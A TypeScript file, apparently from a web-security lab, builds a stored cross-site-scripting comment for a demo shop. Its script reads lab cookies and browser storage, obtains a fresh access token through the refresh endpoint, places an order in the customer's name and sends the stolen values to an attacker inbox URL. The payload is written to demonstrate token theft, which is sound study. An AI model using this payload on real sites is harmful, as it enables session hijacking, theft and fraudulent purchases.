/** Where the script sends what it does: the shop's own order, and the attacker's inbox. */
export interface Aims {
  order: string
  inbox: string
}

/**
 * A comment with a script in it, letter for letter as the page has it. It is the same for all: what a thief does who
 * knows nothing of the page. It takes what the experiment made and nothing else; a real one would take everything.
 */
export const comment = ({ order, inbox }: Aims): string => `<p>Nice mug!</p>
<script>(async () => {
  const stolen = []
  // Read what can be read.
  for (const pair of document.cookie.split('; ')) if (pair.startsWith('lab-')) stolen.push('cookie:' + pair.replace('=', ':'))
  for (const store of ['localStorage', 'sessionStorage'])
    for (const [name, value] of Object.entries(window[store])) if (name.startsWith('lab-')) stolen.push(store + ':' + name + ':' + value)
  // Ask for what can't be read: the browser adds the refresh cookie by itself.
  const renewed = await (await fetch('jwt/refresh', { method: 'POST' })).json()
  if (renewed.access_token) stolen.push('answer:access_token:' + renewed.access_token)
  // Ride: buy in the customer's name, from the customer's own browser.
  const token = /(?:token):(ey[^:]+)$/m.exec(stolen.join('\\n'))?.[1]
  await fetch('${order}&by=script', { method: 'POST', headers: token ? { Authorization: 'Bearer ' + token } : {} })
  // Steal: to the attacker's inbox. That no answer can be read is no hindrance.
  await fetch('${inbox}' + stolen.map((piece) => '&stolen=' + encodeURIComponent(piece)).join(''), { mode: 'no-cors' })
})()</script>`

/** What an honest visitor writes. */
export const PRAISE = '<p>Nice mug!</p>'
